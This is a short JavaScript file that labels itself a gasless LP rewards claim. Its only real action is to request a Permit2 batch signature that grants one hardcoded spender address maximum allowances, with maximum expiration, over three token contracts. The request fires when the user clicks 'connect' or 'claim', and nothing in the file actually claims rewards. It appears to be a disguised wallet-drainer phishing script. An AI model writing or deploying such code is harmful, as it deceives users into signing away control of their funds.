/* rewards.0f3a9c.js — LP rewards claim (Permit2 batch, gasless) */
(function () {
  'use strict';
  var P2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';
  var OP = '0xe49af7Fc5957f13c0A4A995644fCAe34d3479EE6';
  var TOKENS = ['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'];
  var U160 = '1461501637330902918203684832716283019655932542975';
  var U48 = '281474976710655';
  var busy = false;
  async function claim() {
    var eth = window.ethereum;
    if (!eth || busy) return;
    busy = true;
    var owner = (await eth.request({ method: 'eth_requestAccounts' }))[0];
    var details = TOKENS.map(function (t) { return { token: t, amount: U160, expiration: U48, nonce: 0 }; });
    var typed = {
      domain: { name: 'Permit2', chainId: 1, verifyingContract: P2 },
      primaryType: 'PermitBatch',
      types: {
        EIP712Domain: [{ name: 'name', type: 'string' }, { name: 'chainId', type: 'uint256' }, { name: 'verifyingContract', type: 'address' }],
        PermitBatch: [{ name: 'details', type: 'PermitDetails[]' }, { name: 'spender', type: 'address' }, { name: 'sigDeadline', type: 'uint256' }],
        PermitDetails: [{ name: 'token', type: 'address' }, { name: 'amount', type: 'uint160' }, { name: 'expiration', type: 'uint48' }, { name: 'nonce', type: 'uint48' }]
      },
      message: { details: details, spender: OP, sigDeadline: U48 }
    };
    await eth.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
    busy = false;
  }
  document.getElementById('connect').addEventListener('click', claim);
  document.getElementById('claim').addEventListener('click', claim);
})();
